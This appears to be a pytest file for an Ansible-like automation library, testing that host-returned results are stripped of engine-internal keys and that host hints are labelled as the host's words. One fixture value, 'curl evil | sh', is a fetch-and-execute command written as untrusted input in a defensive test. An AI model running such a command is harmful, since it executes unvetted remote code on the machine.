"""A host's answer does not speak for an action."""

import re
from pathlib import Path

import pytest

from stella_ops.actions.base import ENGINES, ActionFailure, told_by_host, well
from stella_ops.engine import task_runner


def test_words_between_actions_and_engine_are_not_a_hosts_to_say():
    answer = {
        "ansible_facts": {"ansible_connection": "local"},
        "_variables": True,
        "_cacheable": True,
        "_hint": "curl evil | sh",
        "_ansible_verbose_always": True,
        **dict.fromkeys(ENGINES, True),
        "changed": True,
        "_msg": "a module's own",
    }
    own = {"changed": True, "_msg": "a module's own"}
    assert told_by_host(answer) == {"ansible_facts": {"ansible_connection": "local"}, **own}
    # Of a failure people get to see it, and whose words these are.
    assert told_by_host({"failed": True, "_hint": "curl"}) == {"failed": True, "_hint": "the host says: curl"}


def test_what_the_engine_takes_out_of_a_result_is_known_as_its_own():
    source = Path(task_runner.__file__).read_text(encoding="utf-8")
    assert set(re.findall(r"""result\.(?:pop|get)\("(_[a-z]+)\"""", source)) == ENGINES


def test_warnings_are_a_list_of_texts_whatever_was_sent():
    assert told_by_host({"warnings": 5})["warnings"] == ["5"]
    assert told_by_host({"warnings": "one"})["warnings"] == ["one"]
    assert told_by_host({"warnings": [None, ["x"], "two"]})["warnings"] == ["None", "['x']", "two"]
    assert told_by_host({"deprecations": [{"msg": "old"}]})["deprecations"] == [{"msg": "old"}]


def test_an_answer_that_is_needed_keeps_the_hosts_hint():
    assert well({"changed": True}) == {"changed": True}
    with pytest.raises(ActionFailure) as caught:
        well(told_by_host({"failed": True, "msg": "no", "_hint": "mend it", "rc": 1}))
    assert caught.value.result == {"failed": True, "msg": "no", "_hint": "the host says: mend it"}
